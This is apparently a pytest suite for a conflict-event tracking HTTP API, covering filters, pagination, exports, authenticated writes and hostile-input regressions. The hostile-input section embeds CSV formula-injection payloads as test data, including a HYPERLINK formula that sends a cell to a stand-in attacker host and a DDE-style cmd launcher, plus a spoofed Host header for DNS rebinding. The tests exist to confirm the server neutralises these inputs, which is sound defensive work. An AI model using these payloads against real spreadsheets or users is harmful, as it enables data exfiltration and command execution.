"""The HTTP API, against a real `clashwatch serve` (uvicorn) on 127.0.0.1 over a real SQLite
store filled by the real `clashwatch ingest` from the bundled corpus (examples/corpus)."""

from __future__ import annotations

from support.paths import REPO

import csv
import io
import json
import os
import subprocess
from pathlib import Path
from urllib.parse import quote

import httpx
import jsonschema
import pytest
from support.webserver import CLASHWATCH, ServerProcess

ROOT = REPO
CORPUS = ROOT / "examples" / "corpus" / "articles.jsonl"
TOKEN = "test-token-5f0c"


def run_cli(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([CLASHWATCH, *args], capture_output=True, text=True, timeout=600)


@pytest.fixture(scope="module")
def corpus_db(tmp_path_factory) -> Path:
    db = tmp_path_factory.mktemp("api") / "corpus.db"
    done = run_cli("ingest", str(CORPUS), "--db", str(db), "-q")
    assert done.returncode == 0, done.stderr
    return db


@pytest.fixture(scope="module")
def server(corpus_db):
    with ServerProcess(corpus_db) as s:
        yield s


@pytest.fixture(scope="module")
def api(server):
    with httpx.Client(base_url=server.url, timeout=60) as client:
        yield client


def cli_events(db: Path, *args: str) -> list[dict]:
    done = run_cli("events", "--db", str(db), "--format", "json", *args)
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


def all_pages(api, path: str, key: str, **params) -> list[dict]:
    rows, cursor = [], None
    for _ in range(100):
        page = api.get(path, params={**params, **({"cursor": cursor} if cursor else {})}).json()
        rows += page[key]
        cursor = page["next_cursor"]
        if cursor is None:
            return rows
    raise AssertionError("pagination did not end")


# --------------------------------------------------------------------------- reads


def test_events_are_the_cli_events(api, corpus_db):
    body = api.get("/api/events", params={"limit": 5000}).json()
    assert body["next_cursor"] is None
    assert body["events"] == cli_events(corpus_db)
    assert len(body["events"]) >= 10
    assert {e["country_code"] for e in body["events"]} == {"KE", "NG", "ML"}


@pytest.mark.parametrize(
    "params, cli_args",
    [
        ({"country": "Kenya"}, ["--country", "Kenya"]),
        ({"country": "ng"}, ["--country", "NG"]),
        ({"type": "Battles"}, ["--type", "Battles"]),
        ({"type": "grenade"}, ["--type", "Grenade"]),
        ({"date_from": "2024-05-05", "date_to": "2024-05-08"}, ["--from", "2024-05-05", "--to", "2024-05-08"]),
        ({"bbox": "33.9,-4.7,41.9,5.0"}, ["--bbox", "33.9,-4.7,41.9,5.0"]),
        ({"min_fatalities": 10}, ["--min-fatalities", "10"]),
        ({"text": "douentza"}, ["--text", "douentza"]),
        ({"current_only": "true"}, ["--current-only"]),
        ({"include_background": "true"}, ["--include-background"]),
        ({"include_background": "true", "country": "NG"}, ["--include-background", "--country", "NG"]),
        ({"country": "KE", "current_only": "true", "min_fatalities": 1}, ["--country", "KE", "--current-only", "--min-fatalities", "1"]),
        ({"country": ["KE", "Mali"]}, ["--country", "KE", "--country", "Mali"]),
        ({"country": "KE,ML"}, ["--country", "KE,ML"]),
        ({"type": "Battles,Grenade"}, ["--type", "Battles", "--type", "Grenade"]),
        ({"actor": "police"}, ["--actor", "police"]),
        ({"outlet": "lakeside"}, ["--outlet", "lakeside"]),
        ({"outlet": "lakeside,northern"}, ["--outlet", "Lakeside Herald", "--outlet", "Northern"]),
        ({"sort": "deadliest"}, ["--sort", "deadliest"]),
        ({"sort": "oldest", "country": "NG"}, ["--sort", "oldest", "--country", "NG"]),
    ],
)
def test_filters_match_the_cli(api, corpus_db, params, cli_args):
    got = api.get("/api/events", params={**params, "limit": 5000})
    assert got.status_code == 200, got.text
    expected = cli_events(corpus_db, *cli_args)
    assert [e["id"] for e in got.json()["events"]] == [e["id"] for e in expected]
    assert expected, f"{params} should match something in the corpus"


def test_filters_narrow_as_a_user_expects(api):
    kenya = api.get("/api/events", params={"country": "Kenya", "limit": 5000}).json()["events"]
    assert kenya and all(e["country"] == "Kenya" for e in kenya)
    big = api.get("/api/events", params={"min_fatalities": 10, "limit": 5000}).json()["events"]
    assert big and all(e["fatalities"] >= 10 for e in big)
    current = api.get("/api/events", params={"limit": 5000}).json()["events"]
    everything = api.get("/api/events", params={"include_background": "true", "limit": 5000}).json()["events"]
    assert not any(e["background"] for e in current)
    assert len(current) < len(everything) and any(e["background"] for e in everything)
    assert api.get("/api/events", params={"current_only": "true", "limit": 5000}).json()["events"] == current
    # totals count what the list shows: recalled events do not inflate them
    stats = api.get("/api/stats").json()
    assert stats["events"] == len(current)
    assert stats["fatalities"] == sum(e["fatalities"] or 0 for e in current)
    assert api.get("/api/stats", params={"include_background": "1"}).json()["events"] == len(everything)
    boxed = api.get("/api/events", params={"bbox": "33.9,-4.7,41.9,5.0", "limit": 5000}).json()["events"]
    assert boxed and all(-4.7 <= e["latitude"] <= 5.0 and 33.9 <= e["longitude"] <= 41.9 for e in boxed)


def test_cursor_pagination_walks_every_event_once_in_order(api):
    everything = api.get("/api/events", params={"limit": 5000}).json()["events"]
    first = api.get("/api/events", params={"limit": 4}).json()
    assert len(first["events"]) == 4 and first["limit"] == 4 and first["next_cursor"]
    paged = all_pages(api, "/api/events", "events", limit=4)
    assert [e["id"] for e in paged] == [e["id"] for e in everything]
    filtered = all_pages(api, "/api/events", "events", limit=1, country="KE")
    assert [e["id"] for e in filtered] == [e["id"] for e in everything if e["country_code"] == "KE"]
    for sort in ("deadliest", "oldest"):
        whole = api.get("/api/events", params={"limit": 5000, "sort": sort}).json()["events"]
        assert [e["id"] for e in all_pages(api, "/api/events", "events", limit=3, sort=sort)] == [e["id"] for e in whole]
    # a cursor of one sort is not a place in another
    deadly_cursor = api.get("/api/events", params={"limit": 2, "sort": "deadliest"}).json()["next_cursor"]
    wrong = api.get("/api/events", params={"limit": 2, "cursor": deadly_cursor})
    assert wrong.status_code == 422 and wrong.json()["message"].startswith("cursor: invalid cursor")


def test_geojson_is_valid_rfc7946_and_pages(api, corpus_db):
    got = api.get("/api/events.geojson", params={"limit": 5000})
    assert got.status_code == 200
    assert got.headers["content-type"].startswith("application/geo+json")
    collection = got.json()
    assert collection["type"] == "FeatureCollection" and collection["next_cursor"] is None
    events = {e["id"]: e for e in cli_events(corpus_db)}
    located = [e for e in events.values() if e["latitude"] is not None]
    assert len(collection["features"]) == len(located)
    for feature in collection["features"]:
        assert set(feature) == {"type", "id", "geometry", "properties"} and feature["type"] == "Feature"
        geometry = feature["geometry"]
        assert geometry["type"] == "Point" and len(geometry["coordinates"]) == 2
        lon, lat = geometry["coordinates"]
        event = events[feature["id"]]
        assert (lat, lon) == pytest.approx((event["latitude"], event["longitude"]), abs=1e-6)  # [lon, lat] order
        assert -180 <= lon <= 180 and -90 <= lat <= 90
        props = feature["properties"]
        assert props["event_id_cnty"] == feature["id"] and props["event_type"] == event["event_type"]
        assert props["fatalities"] == (event["fatalities"] or 0)
    cli = run_cli("events", "--db", str(corpus_db), "--format", "geojson")
    assert collection["features"] == json.loads(cli.stdout)["features"]
    paged = all_pages(api, "/api/events.geojson", "features", limit=3)
    assert [f["id"] for f in paged] == [f["id"] for f in collection["features"]]


def test_csv_download_has_acled_columns_and_every_match(api):
    got = api.get("/api/events.csv", params={"country": "Nigeria"})
    assert got.status_code == 200
    assert got.headers["content-type"].startswith("text/csv")
    assert "attachment" in got.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(got.text)))
    nigeria = api.get("/api/events", params={"country": "Nigeria", "limit": 5000}).json()["events"]
    assert [r["event_id_cnty"] for r in rows] == [e["id"] for e in nigeria]
    assert {"event_date", "event_type", "sub_event_type", "actor1", "country", "latitude", "longitude", "fatalities", "source"} <= set(rows[0])
    assert all(r["country"] == "Nigeria" for r in rows)


def test_event_detail_has_the_claim_ledger(api):
    konduga = api.get("/api/events", params={"text": "Konduga", "current_only": "true", "limit": 5}).json()["events"]
    assert len(konduga) == 1
    event_id = konduga[0]["id"]
    detail = api.get(f"/api/events/{event_id}").json()
    assert detail["id"] == event_id and detail["fatalities"] == 12
    assert detail["n_articles"] >= 4 and len(detail["mentions"]) >= 4
    assert all(m["url"].startswith("https://") and m["merge_text"] for m in detail["mentions"])
    killed = [c for c in detail["claims"] if c["kind"] == "killed" and c["status"] == "figure"]
    assert len({c["source_name"] for c in killed}) >= 2, "figures from several sources"
    for claim in detail["claims"]:
        assert claim["sentence"] and claim["source"] and claim["as_of"]
        if claim["figure_in_sentence"]:
            a, b = claim["figure_in_sentence"]
            assert claim["sentence"][a:b] == claim["figure"]
    assert sum(1 for c in killed if c["figure_in_sentence"]) == len(killed)
    assert detail["rationale_text"] and len(detail["rationale_text"]) == len(detail["rationale"])
    assert any("12" in line for line in detail["rationale_text"])
    assert detail["toll_history"] and all(point["as_of"] for series in detail["toll_history"].values() for point in series)
    article = api.get(f"/api/articles/{detail['mentions'][0]['article_id']}").json()
    assert event_id in article["event_ids"] and "Konduga" in article["text"]


def test_unknown_event_and_article_are_404(api):
    for path in ("/api/events/ev_0000000000000000", "/api/articles/no-such-article"):
        got = api.get(path)
        assert got.status_code == 404 and "no " in got.json()["detail"]


def test_stats_sum_what_the_list_returns(api):
    for params in ({}, {"country": "KE"}, {"current_only": "true"}, {"date_from": "2024-05-01"}):
        events = api.get("/api/events", params={**params, "limit": 5000}).json()["events"]
        stats = api.get("/api/stats", params=params).json()
        assert stats["events"] == len(events)
        assert stats["fatalities"] == sum(e["fatalities"] or 0 for e in events)
        assert sum(c["events"] for c in stats["by_country"]) == len(events)
        assert sum(t["events"] for t in stats["by_type"]) == len(events)
        days = [d["date"] for d in stats["by_day"]]
        assert days == sorted(days) and sum(d["events"] for d in stats["by_day"]) == len(events)


@pytest.mark.parametrize(
    "params, words",
    [
        ({"bbox": "abc"}, "bbox: 'abc' is not min_lon,min_lat,max_lon,max_lat"),
        ({"bbox": "10,0,5,1"}, "bbox: min_lon 10 is greater than max_lon 5"),
        ({"date_from": "2022-13-45"}, "date_from: '2022-13-45' is not a valid date (month must be in 1..12)"),
        ({"date_from": "2024-05-09", "date_to": "2024-05-01"}, "date_from 2024-05-09 is after date_to 2024-05-01"),
        ({"min_fatalities": "many"}, "min_fatalities: 'many' is not a whole number"),
        ({"limit": "0"}, "limit: Input should be greater than or equal to 1"),
        ({"cursor": "garbage!"}, "cursor: invalid cursor"),
        ({"contry": "KE"}, "contry: unknown parameter"),
        ({"type": "Battle"}, "type: 'Battle' is not an ACLED event type or sub-event type; did you mean 'Battles'?"),
        ({"country": "KE,Keyna"}, "country: 'Keyna' is not a country clashwatch knows; did you mean 'Kenya'?"),
        ({"interaction": "99"}, "interaction: '99' is not an ACLED interaction code"),
        ({"sort": "loudest"}, "sort: 'loudest' is not a sort order (one of newest, oldest, deadliest)"),
    ],
)
def test_bad_filters_are_422_with_a_clear_message(api, params, words):
    for path in ("/api/events", "/api/events.geojson", "/api/stats") if "limit" not in params and "cursor" not in params else ("/api/events",):
        got = api.get(path, params=params)
        assert got.status_code == 422, (path, got.text)
        assert words in got.json()["message"], got.json()["message"]
        assert "\n" not in got.json()["message"]


def test_openapi_documents_the_models_the_cli_prints(api, corpus_db):
    spec = api.get("/openapi.json").json()
    for path in ("/api/events", "/api/events.geojson", "/api/events.csv", "/api/events/{event_id}", "/api/articles/{article_id}",
                 "/api/stats", "/api/articles"):
        assert path in spec["paths"], path
    schemas = spec["components"]["schemas"]
    params = {p["name"] for p in spec["paths"]["/api/events"]["get"]["parameters"]}
    assert {"country", "type", "date_from", "date_to", "bbox", "min_fatalities", "text", "limit", "cursor"} <= params

    assert {"StoredEvent", "EventDetail", "StoredClaim", "EventPage", "EventStats"} <= set(schemas)

    def validator(name: str) -> jsonschema.Validator:
        document = {"$ref": f"#/components/schemas/{name}", "components": spec["components"]}
        return jsonschema.Draft202012Validator(document)

    page = api.get("/api/events", params={"limit": 3}).json()
    validator("EventPage").validate(page)
    for event in cli_events(corpus_db):
        validator("StoredEvent").validate(event)
    event_id = page["events"][0]["id"]
    detail = run_cli("events", "show", event_id, "--db", str(corpus_db), "--format", "json")
    validator("EventDetail").validate(json.loads(detail.stdout))
    assert api.get(f"/api/events/{event_id}").json() == json.loads(detail.stdout)


def test_docs_page_and_security_headers(api):
    got = api.get("/docs")
    assert got.status_code == 200, "run scripts/build-web.sh"
    assert "swagger" in got.text.lower()
    assert "script-src 'self'" in got.headers["content-security-policy"]
    assert got.headers["x-content-type-options"] == "nosniff"


# --------------------------------------------------------------------------- writes

ARTICLE = {
    "id": "api-kismayo-0601",
    "url": "https://example.org/news/2024/06/01/kismayo",
    "source": "Test Wire",
    "published": "2024-06-01",
    "title": "Militants Kill Four Soldiers Near Kismayo",
    "text": "Militants attacked an army base near Kismayo on Friday, killing four soldiers and wounding six others, "
    "a military official said. The attackers fled into the forest after a two-hour gun battle.",
}


@pytest.fixture(scope="module")
def writable(tmp_path_factory):
    db = tmp_path_factory.mktemp("api-w") / "w.db"
    with ServerProcess(db, "--allow-writes", "--max-body-mb", "0.05", env={"CLASHWATCH_API_TOKEN": TOKEN}) as s:
        yield s, db


def test_writes_refused_on_a_read_only_server(api):
    got = api.post("/api/articles", json=ARTICLE, headers={"Authorization": f"Bearer {TOKEN}"})
    assert got.status_code == 403 and "writes are disabled" in got.json()["detail"]


def test_writes_need_the_token(writable):
    server, db = writable
    no_token = httpx.post(server.url + "/api/articles", json=ARTICLE)
    assert no_token.status_code == 401 and no_token.headers["www-authenticate"] == "Bearer"
    wrong = httpx.post(server.url + "/api/articles", json=ARTICLE, headers={"Authorization": "Bearer nope"})
    assert wrong.status_code == 403
    assert httpx.get(server.url + "/api/events").json()["events"] == []


def test_post_ingests_and_the_event_is_served(writable):
    server, db = writable
    auth = {"Authorization": f"Bearer {TOKEN}"}
    got = httpx.post(server.url + "/api/articles", json=ARTICLE, headers=auth, timeout=120)
    assert got.status_code == 200, got.text
    report = got.json()
    assert report["new"] == 1 and report["failed"] == 0
    [outcome] = report["articles"]
    assert outcome["status"] == "new" and outcome["article_id"] == ARTICLE["id"] and outcome["event_ids"]
    detail = httpx.get(server.url + f"/api/events/{outcome['event_ids'][0]}").json()
    assert detail["location"] == "Kismayo" and detail["fatalities"] == 4
    again = httpx.post(server.url + "/api/articles", json=ARTICLE, headers=auth, timeout=120).json()
    assert again["unchanged"] == 1 and again["articles"][0]["status"] == "unchanged"
    assert [e["id"] for e in cli_events(db)] == [e["id"] for e in httpx.get(server.url + "/api/events").json()["events"]]


def test_jsonl_batch_reports_each_line(writable):
    server, _ = writable
    lines = [
        json.dumps({**ARTICLE, "id": "api-batch-1", "url": None, "text": ARTICLE["text"].replace("four", "three")}),
        "{not json",
        json.dumps({"id": "api-batch-3", "published": "2024-06-02"}),
    ]
    got = httpx.post(server.url + "/api/articles", content="\n".join(lines) + "\n", timeout=120,
                     headers={"Authorization": f"Bearer {TOKEN}", "Content-Type": "application/x-ndjson"})
    assert got.status_code == 200, got.text
    report = got.json()
    assert [a["status"] for a in report["articles"]] == ["new", "failed", "failed"]
    assert "not valid JSON" in report["articles"][1]["error"] and 'no "text"' in report["articles"][2]["error"]
    assert report["articles"][1]["origin"] == "request: line 2"


def test_oversized_body_is_413_and_changes_nothing(writable):
    server, db = writable
    auth = {"Authorization": f"Bearer {TOKEN}"}
    before = httpx.get(server.url + "/api/stats").json()
    huge = {**ARTICLE, "id": "api-huge", "url": None, "text": ARTICLE["text"] + " x" * 40_000}
    declared = httpx.post(server.url + "/api/articles", json=huge, headers=auth)
    assert declared.status_code == 413 and "larger than this server accepts" in declared.json()["detail"]

    def chunked():
        data = json.dumps(huge).encode()
        for i in range(0, len(data), 4096):
            yield data[i : i + 4096]

    streamed = httpx.post(server.url + "/api/articles", content=chunked(), headers={**auth, "Content-Type": "application/json"})
    assert streamed.status_code == 413
    assert httpx.get(server.url + "/api/stats").json() == before
    assert httpx.get(server.url + "/api/articles/api-huge").status_code == 404


def test_bad_bodies_are_clear_errors(writable):
    server, _ = writable
    auth = {"Authorization": f"Bearer {TOKEN}"}
    empty = httpx.post(server.url + "/api/articles", content=b"", headers={**auth, "Content-Type": "application/json"})
    assert empty.status_code == 422 and "empty" in empty.json()["detail"]
    broken = httpx.post(server.url + "/api/articles", content=b"{", headers={**auth, "Content-Type": "application/json"})
    assert broken.status_code == 422 and "not JSON" in broken.json()["detail"]
    wrong_type = httpx.post(server.url + "/api/articles", content=b"x", headers={**auth, "Content-Type": "text/plain"})
    assert wrong_type.status_code == 415


def test_server_refuses_to_start_with_writes_and_no_token(tmp_path):
    done = subprocess.run([CLASHWATCH, "serve", "--db", str(tmp_path / "x.db"), "--allow-writes", "--port", "0"],
                          capture_output=True, text=True, timeout=60,
                          env={k: v for k, v in os.environ.items() if k != "CLASHWATCH_API_TOKEN"})
    assert done.returncode == 2
    assert "--allow-writes needs a token: set CLASHWATCH_API_TOKEN" in done.stderr
    assert "Traceback" not in done.stderr


def test_private_server_closes_reads_with_the_token(corpus_db):
    with ServerProcess(corpus_db, "--private", env={"CLASHWATCH_API_TOKEN": TOKEN}) as s:
        assert httpx.get(s.url + "/api/health").status_code == 200
        assert httpx.get(s.url + "/api/config").json()["reads_need_token"] is True
        assert httpx.get(s.url + "/api/events").status_code == 401
        assert httpx.get(s.url + "/api/events", headers={"Authorization": "Bearer wrong"}).status_code == 403
        ok = httpx.get(s.url + "/api/events", headers={"Authorization": f"Bearer {TOKEN}"})
        assert ok.status_code == 200 and ok.json()["events"]


def test_serve_usage_errors_are_one_line(tmp_path, server):
    port = server.url.rsplit(":", 1)[1]
    cases = [
        (["--port", port], f"cannot listen on 127.0.0.1:{port}"),
        (["--tiles", "tiles.example.org"], "is not a tile URL template"),
        (["--private"], "--private needs a token"),
    ]
    env = {k: v for k, v in os.environ.items() if k != "CLASHWATCH_API_TOKEN"}
    for args, words in cases:
        done = subprocess.run([CLASHWATCH, "serve", "--db", str(tmp_path / "x.db"), *args], capture_output=True, text=True,
                              timeout=60, env=env)
        assert done.returncode == 2, (args, done.stderr)
        assert words in done.stderr and "Traceback" not in done.stderr


def test_tile_layer_is_announced_and_allowed_by_the_policy(corpus_db):
    tiles = "https://{s}.tile.example.org/{z}/{x}/{y}.png"
    with ServerProcess(corpus_db, "--tiles", tiles, "--tiles-attribution", "© Example") as s:
        config = httpx.get(s.url + "/api/config").json()
        assert config["tiles"] == {"url": tiles, "attribution": "© Example", "max_zoom": 19}
        page = httpx.get(s.url + "/")
        assert "img-src 'self' data: https://*.tile.example.org;" in page.headers["content-security-policy"]


# --------------------------------------------------------------------------- hostile input
# Each test below is the smallest reproducer of one finding of the "HTTP API under hostile
# input" issue (docs/reliability.md has the table of inputs and answers).

INT64_MAX = 2**63 - 1
HOSTILE_SOURCES = ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0")
HOSTILE_ARTICLES = [
    {"id": "hostile-link", "url": "https://example.org/hostile/link", "source": HOSTILE_SOURCES[0], "published": "2024-06-03",
     "title": "Gunmen kill three villagers near Mopti",
     "text": "Gunmen killed three villagers near Mopti in central Mali on Sunday, local officials said."},
    {"id": "hostile-sum", "url": "https://example.org/hostile/sum", "source": HOSTILE_SOURCES[1], "published": "2024-06-04",
     "title": "Two police officers killed near Garissa",
     "text": "Two police officers were killed on Monday when militants attacked a checkpoint near Garissa in Kenya, police said."},
]


def raw_get(url: str, target: str, host: str | None = None) -> tuple[int, dict[str, str], bytes]:
    """One HTTP/1.1 GET over a plain socket: any Host header, any length of target."""
    import socket
    from urllib.parse import urlsplit

    parts = urlsplit(url)
    host = host if host is not None else parts.netloc
    with socket.create_connection((parts.hostname, parts.port), timeout=60) as sock:
        sock.sendall(f"GET {target} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
        data = b""
        while chunk := sock.recv(65536):
            data += chunk
    head, _, body = data.partition(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    headers = {k.strip().lower(): v.strip() for k, _, v in (line.partition(":") for line in lines[1:])}
    if headers.get("transfer-encoding") == "chunked":
        out, rest = b"", body
        while rest:
            size, _, rest = rest.partition(b"\r\n")
            n = int(size, 16)
            if n == 0:
                break
            out, rest = out + rest[:n], rest[n + 2 :]
        body = out
    return int(lines[0].split()[1]), headers, body


def synthetic_store(path: Path, n: int, **overrides_by_index: dict) -> Path:
    """A migrated store holding ``n`` events written straight into the table (no pipeline):
    event i is dated 2024-01-01 + i % 300 days, with 1 fatality, unless ``overrides_by_index``
    (``e<i>=dict(...)``) says otherwise."""
    import sqlite3

    done = run_cli("db", "upgrade", "--db", str(path))
    assert done.returncode == 0, done.stderr
    rows = []
    for i in range(n):
        day = 1 + i % 300
        row = {"id": f"ev_{i:016x}", "event_type": "Battles", "sub_event_type": "Armed clash",
               "event_date": f"2024-{(day - 1) // 28 % 12 + 1:02d}-{(day - 1) % 28 + 1:02d}", "background": 0,
               "country": "Mali", "country_code": "ML", "location": f"Place {i}", "latitude": 14.5, "longitude": -3.5,
               "fatalities": 1, "n_mentions": 1, "n_articles": 1, "updated_at": "2024-06-01 00:00:00.000000"}
        row.update(overrides_by_index.get(f"e{i}", {}))
        rows.append(row)
    with sqlite3.connect(path) as conn:
        columns = list(dict.fromkeys(c for r in rows for c in r))
        conn.executemany(f"INSERT INTO events ({', '.join(columns)}) VALUES ({', '.join('?' * len(columns))})",
                         [tuple(r.get(c) for c in columns) for r in rows])
    return path


@pytest.fixture(scope="module")
def synthetic(tmp_path_factory):
    """1,201 events (more than 200, and more than two of the CSV's 500-row chunks), two of
    them with absurd 9x10^18 tolls, one undated, one whose location holds a carriage return;
    served with --allow-host dashboard.example."""
    db = synthetic_store(
        tmp_path_factory.mktemp("api-synthetic") / "synthetic.db", 1201,
        e3={"fatalities": 9 * 10**18}, e4={"fatalities": 9 * 10**18}, e7={"event_date": None},
        e8={"location": "Upper\rLower", "actor1": "-Group of 3"},
    )
    with ServerProcess(db, "--allow-host", "dashboard.example") as s:
        yield s


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory) -> Path:
    """The bundled corpus plus two articles whose outlet name is a spreadsheet formula."""
    folder = tmp_path_factory.mktemp("api-hostile")
    extra = folder / "hostile.jsonl"
    extra.write_text("".join(json.dumps(a) + "\n" for a in HOSTILE_ARTICLES))
    db = folder / "hostile.db"
    done = run_cli("ingest", str(CORPUS), str(extra), "--db", str(db), "-q")
    assert done.returncode == 0, done.stderr
    return db


def test_stats_never_overflow_on_absurd_tolls(synthetic):
    """Finding 1: two stored tolls of 9x10^18 made /api/stats a 503 'integer overflow'."""
    got = httpx.get(synthetic.url + "/api/stats", timeout=60)
    assert got.status_code == 200, got.text
    stats = got.json()
    assert stats["events"] == 1201
    assert stats["fatalities"] == INT64_MAX  # 1.8e19 + 1,199: capped at the 64-bit maximum
    [mali] = stats["by_country"]
    assert mali["fatalities"] == INT64_MAX and mali["events"] == 1201
    assert all(0 <= d["fatalities"] <= INT64_MAX for d in stats["by_day"])
    normal = httpx.get(synthetic.url + "/api/stats", params={"date_from": "2024-06-01"}, timeout=60).json()
    events = all_pages(httpx.Client(base_url=synthetic.url, timeout=60), "/api/events", "events", limit=5000,
                       date_from="2024-06-01")
    assert normal["fatalities"] == sum(e["fatalities"] for e in events) < 2**53  # exact below the cap


def test_csv_streams_every_matching_row(synthetic):
    """Finding 3: /api/events.csv must hold every matching event (not the first 200), each row whole."""
    with httpx.Client(base_url=synthetic.url, timeout=120) as client:
        got = client.get("/api/events.csv")
        assert got.status_code == 200
        rows = list(csv.DictReader(io.StringIO(got.text, newline="")))
        listed = all_pages(client, "/api/events", "events", limit=5000)
    assert len(listed) == 1201
    assert [r["event_id_cnty"] for r in rows] == [e["id"] for e in listed]
    odd = next(r for r in rows if r["event_id_cnty"] == "ev_0000000000000008")
    assert odd["location"] == "Upper\nLower"  # a carriage return does not split the row
    assert odd["actor1"] == "'-Group of 3"
    assert all(r["longitude"] == "-3.5" for r in rows)  # numbers stay numbers


@pytest.mark.parametrize(
    "params, words",
    [
        ({"min_fatalities": str(2**63)}, "min_fatalities: Input should be less than or equal to 9223372036854775807"),
        ({"min_fatalities": "9" * 5000}, "min_fatalities: '99999999999999999999"),
        ({"min_fatalities": "-1"}, "min_fatalities: Input should be greater than or equal to 0"),
        ({"limit": "5001"}, "limit: Input should be less than or equal to 5000"),
        ({"limit": str(2**64)}, "limit: Input should be less than or equal to 5000"),
        ({"text": "x" * 201}, "text: text filter longer than 200 characters"),
        ({"country": "K" * 201}, "country: country filter longer than 200 characters"),
        ({"admin1": "a" * 201}, "admin1: admin1 filter longer than 200 characters"),
        ({"type": "t" * 201}, "type: type filter longer than 200 characters"),
        ({"bbox": "1," * 150 + "1"}, "bbox: bbox filter longer than 200 characters"),
        ({"bbox": "nan,0,1,1"}, "bbox: 'nan,0,1,1': the four numbers must be finite"),
        ({"bbox": "0,0,1,1e999"}, "the four numbers must be finite"),
        ({"bbox": "0,-91,1,1"}, "min_lat -91 is out of range"),
        ({"date_from": "0001-01-01"}, "date_from: 0001-01-01 is out of range (1800-01-01 to 2199-12-31)"),
        ({"date_to": "9999-12-31"}, "date_to: 9999-12-31 is out of range (1800-01-01 to 2199-12-31)"),
        ({"date_from": "0"}, "date_from: '0' is not a date (write it as 2022-09-16, 16 September 2022, 2022-09 or 2022)"),
        ({"date_to": "when the rains came"}, "date_to: 'when the rains came' is not a date"),
        ({"date_from": "2024-02-30"}, "date_from: '2024-02-30' is not a valid date (day is out of range for month)"),
        ({"current_only": "perhaps"}, "current_only: 'perhaps' is not true or false"),
    ],
)
def test_every_parameter_is_validated_to_a_422(api, params, words):
    """Finding 2: a parameter out of the store's range, an absurd date, an unbounded filter:
    422 with a one-line message, never a 500 or 503."""
    paths = ("/api/events",) if "limit" in params else ("/api/events", "/api/events.geojson", "/api/events.csv", "/api/stats")
    for path in paths:
        got = api.get(path, params=params)
        assert got.status_code == 422, (path, got.status_code, got.text[:300])
        body = got.json()
        assert words in body["message"], body["message"]
        assert "\n" not in body["message"] and len(body["message"]) < 400


def test_a_60000_character_text_filter_is_a_422_not_a_database_failure(server):
    """Finding 2: a 100,000-character text filter was 'the database is unavailable' (503).
    (Past 80 KB the request line is the HTTP parser's to refuse: the test below.)"""
    for path in ("/api/events", "/api/stats", "/api/events.csv"):
        status, _, body = raw_get(server.url, f"{path}?text={'x' * 60_000}")
        assert status == 422, (path, status, body[:200])
        message = json.loads(body)["message"]
        assert message == "text: text filter longer than 200 characters"


def test_limits_at_the_edges_are_answered(api):
    """The largest accepted values are served, not failed on."""
    for params in ({"min_fatalities": str(INT64_MAX)}, {"limit": "5000"}, {"text": "x" * 200},
                   {"date_from": "1800-01-01", "date_to": "2199-12-31"}, {"text": "%"}, {"text": "_"}):
        got = api.get("/api/events", params=params)
        assert got.status_code == 200, (params, got.text[:300])
        assert api.get("/api/stats", params={k: v for k, v in params.items() if k != "limit"}).status_code == 200
    assert api.get("/api/events", params={"min_fatalities": str(INT64_MAX)}).json()["events"] == []
    # 'substring' means substring: % and _ are not wildcards
    assert api.get("/api/events", params={"text": "%"}).json()["events"] == []
    assert api.get("/api/events", params={"text": "_"}).json()["events"] == []


def _cursor(payload: bytes) -> str:
    import base64

    return base64.urlsafe_b64encode(payload).decode().rstrip("=")


@pytest.mark.parametrize(
    "cursor",
    [
        _cursor(b"[" * 5_000),  # nested past Python's recursion limit: was a 500 RecursionError
        _cursor(b"[" * 2_000 + b"]" * 2_000),
        _cursor(json.dumps({"2024-05-01": 1, "ev_1": 2}).encode()),
        _cursor(json.dumps(["2024-05-01", 7]).encode()),
        _cursor(json.dumps(["2024-05-01", "ev_1", "more"]).encode()),
        _cursor(json.dumps([20240501, "ev_1"]).encode()),
        _cursor(json.dumps(["2024-13-01", "ev_1"]).encode()),
        _cursor(json.dumps(["2024-05-01", "x" * 300]).encode()),
        _cursor(b"\xff\xfe"),
        "A" * 300,
        "not base64!",
    ],
)
def test_cursors_are_validated(server, cursor):
    """Finding 4: a deeply nested cursor gave a 500 RecursionError; every malformed cursor is
    a 422 'invalid cursor'."""
    for path in ("/api/events", "/api/events.geojson"):
        status, _, body = raw_get(server.url, f"{path}?cursor={quote(cursor)}")
        assert status == 422, (path, status, body[:200])
        assert json.loads(body)["message"].startswith("cursor: invalid cursor"), body[:200]


def test_csv_cells_cannot_be_spreadsheet_formulas(hostile_db):
    """Finding 5: a source cell starting '=HYPERLINK(' or '@SUM(' is a formula in a spreadsheet."""
    with ServerProcess(hostile_db) as s:
        got = httpx.get(s.url + "/api/events.csv", timeout=60)
    assert got.status_code == 200
    rows = list(csv.DictReader(io.StringIO(got.text, newline="")))
    sources = [r["source"] for r in rows]
    for outlet in HOSTILE_SOURCES:
        assert any(cell.startswith("'" + outlet) for cell in sources), (outlet, sources)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (column, cell)
            if cell.startswith("-"):
                float(cell)  # only numbers (longitudes) may start with a minus
    assert any(float(r["longitude"]) < 0 for r in rows if r["longitude"])
    cli = run_cli("events", "--db", str(hostile_db), "--format", "csv")
    assert cli.returncode == 0, cli.stderr
    assert cli.stdout == got.text  # the CLI writes the very same cells
    export = run_cli("export", "--db", str(hostile_db), "--format", "acled-csv")
    assert export.returncode == 0, export.stderr
    assert export.stdout == got.text
    extract = run_cli("extract", str(hostile_db.with_name("hostile.jsonl")), "--format", "acled-csv")
    assert extract.returncode == 0, extract.stderr
    extracted = list(csv.DictReader(io.StringIO(extract.stdout, newline="")))
    assert sorted(r["source"] for r in extracted) == sorted("'" + o for o in HOSTILE_SOURCES)
    assert any(float(r["longitude"]) < 0 for r in extracted if r["longitude"])  # Mopti: still a number


def test_host_header_is_checked(server, synthetic):
    """Finding 6: a server on 127.0.0.1 answered any Host (readable through DNS rebinding)."""
    port = server.url.rsplit(":", 1)[1]
    status, headers, body = raw_get(server.url, "/api/events", host="evil.example")
    assert status == 400 and headers["content-type"].startswith("application/json")
